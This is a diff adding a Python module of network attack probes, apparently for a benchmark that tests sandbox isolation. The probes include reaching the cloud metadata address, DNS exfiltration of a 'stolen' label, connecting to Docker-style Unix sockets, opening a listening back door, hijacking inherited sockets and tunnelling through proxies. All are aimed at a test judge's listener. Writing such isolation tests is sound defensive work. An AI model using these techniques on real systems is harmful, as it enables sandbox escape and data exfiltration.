@@ -1,0 +1,125 @@
+"""Attacks on the network: each tries to reach a listener of the judge's, or to open a door of its own."""
+
+from __future__ import annotations
+
+import errno
+import os
+import socket
+import struct
+from contextlib import suppress
+from typing import Any
+
+from paddock.bench.hostile.attacks.attempt import Hostile
+
+HELLO = b"hello from a hostile environment"
+_PATIENCE_S = 2.0
+
+
+class Connect(Hostile):
+    """Connects to ``host`` and ``port`` and sends a few bytes."""
+
+    def attempt(self) -> str:
+        with socket.create_connection((self.told["host"], self.told["port"]), _PATIENCE_S) as connection:
+            connection.sendall(HELLO)
+        return "connected"
+
+
+class Route(Hostile):
+    """Asks for the way to the cloud's metadata service. No packet is sent: it may really be there."""
+
+    def attempt(self) -> str:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as there:
+            there.connect(("169.254.169.254", 80))
+            return f"reached: from {there.getsockname()[0]}"
+
+
+class AskName(Hostile):
+    """Asks the judge's name server for a name whose letters are the loot."""
+
+    def attempt(self) -> str:
+        labels = b"".join(bytes([len(one)]) + one for one in (b"stolen", b"example", b"com"))
+        query = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
+            asking.sendto(query, (self.told["host"], self.told["datagram_port"]))
+        return "asked"
+
+
+class ConnectUnix(Hostile):
+    """Connects to a Unix socket by path, as to Docker's, or by an abstract name."""
+
+    def attempt(self) -> str:
+        with socket.socket(socket.AF_UNIX) as there:
+            there.settimeout(_PATIENCE_S)
+            there.connect(self.told["path"].replace("@", "\0", 1) if self.told["abstract"] else self.told["path"])
+            there.sendall(HELLO)
+        return "connected"
+
+
+class OpenSocket(Hostile):
+    """Opens a socket of a family that only drivers and spies use."""
+
+    def attempt(self) -> str:
+        family, kind, protocol = self.told["socket"]
+        try:
+            with socket.socket(family, kind, protocol):
+                return "reached: a socket"
+        except OSError as error:
+            # Not here: the kernel was asked, and has no such family, which says nothing of a wall.
+            if error.errno in (errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT):
+                return f"reached: {errno.errorcode[error.errno]}"
+            raise
+
+
+class Listen(Hostile):
+    """Waits for callers on ``port``: a back door."""
+
+    door: socket.socket | None = None
+
+    def attempt(self) -> str:
+        if self.door is None:
+            self.door = socket.socket()
+            self.door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            self.door.bind(("127.0.0.1", self.told["free_port"]))
+            self.door.listen()
+        return "listens"
+
+    def close(self) -> None:
+        if self.door is not None:
+            self.door.close()
+
+
+class ReuseSockets(Hostile):
+    """Makes every inherited socket forget its peer and connects it to the judge's listener."""
+
+    def attempt(self) -> str:
+        for fd in range(3, 64):
+            with suppress(OSError):
+                found = socket.socket(fileno=os.dup(fd))
+                if found.family not in (socket.AF_INET, socket.AF_INET6):
+                    found.close()
+                    continue
+                found.connect((self.told["host"], self.told["port"]))
+                return "connected"
+        return Connect(**self.told).attempt()
+
+
+class AskForProxy(Hostile):
+    """Speaks HTTP to what may be a proxy: the variables that name one, then the usual ports."""
+
+    def attempt(self) -> str:
+        target: tuple[Any, Any] = self.told["host"], self.told["port"]
+        request = f"CONNECT {target[0]}:{target[1]} HTTP/1.1\r\nHost: {target[0]}\r\n\r\n".encode()
+        ports = [int(text.rsplit(":", 1)[1]) for text in map(os.environ.get, ("https_proxy", "HTTPS_PROXY")) if text]
+        denial = OSError(errno.ECONNREFUSED, "no proxy")
+        for port in (*ports, 3128, 8080, target[1]):
+            try:
+                with socket.create_connection(("127.0.0.1", port), _PATIENCE_S) as proxy:
+                    proxy.sendall(request)
+                    proxy.settimeout(0.2)
+                    with suppress(OSError):
+                        proxy.recv(64)
+                    if port == target[1]:
+                        return "connected"
+            except OSError as error:
+                denial = error
+        raise denial
